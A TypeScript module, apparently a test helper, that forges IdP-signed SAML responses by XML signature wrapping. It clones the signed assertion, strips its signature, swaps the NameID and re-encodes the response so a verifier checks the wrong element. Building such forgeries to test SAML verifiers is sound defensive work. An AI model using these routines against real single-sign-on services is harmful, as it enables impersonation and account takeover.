/**
 * An attacker's editing of a genuine, IdP-signed SAML response: parse it
 * with @xmldom/xmldom, move, copy and insert elements, serialize it again.
 * Signatures are never recomputed: each forgery keeps the IdP's signature
 * bytes and relies on a verifier looking at the wrong element.
 */
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

export const PROTOCOL_NS = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const ASSERTION_NS = 'urn:oasis:names:tc:SAML:2.0:assertion';
export const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';

export const decode = (response: string): Document => new DOMParser().parseFromString(Buffer.from(response, 'base64').toString('utf8'), 'text/xml');
export const encode = (doc: Document | string): string => Buffer.from(typeof doc === 'string' ? doc : new XMLSerializer().serializeToString(doc), 'utf8').toString('base64');

export const assertionOf = (doc: Document): Element => doc.getElementsByTagNameNS(ASSERTION_NS, 'Assertion').item(0) as Element;

/** A copy of the signed assertion with its signature removed and the NameID changed: the evil assertion. */
export function evilCopy(doc: Document, nameId: string, id = '_evil'): Element {
  const evil = assertionOf(doc).cloneNode(true) as Element;
  evil.setAttribute('ID', id);
  for (const signature of Array.from(evil.getElementsByTagNameNS(DSIG_NS, 'Signature'))) signature.parentNode?.removeChild(signature);
  const name = evil.getElementsByTagNameNS(ASSERTION_NS, 'NameID').item(0) as Element;
  while (name.firstChild) name.removeChild(name.firstChild);
  name.appendChild(doc.createTextNode(nameId));
  return evil;
}

/** Edits a response with `edit` and returns it base64 again. */
export function forge(response: string, edit: (doc: Document) => void): string {
  const doc = decode(response);
  edit(doc);
  return encode(doc);
}

/** The response as text, for string-level edits that DOM editing cannot express (a comment inside a text node). */
export const xmlOf = (response: string): string => Buffer.from(response, 'base64').toString('utf8');
export type { Document, Element } from '@xmldom/xmldom';
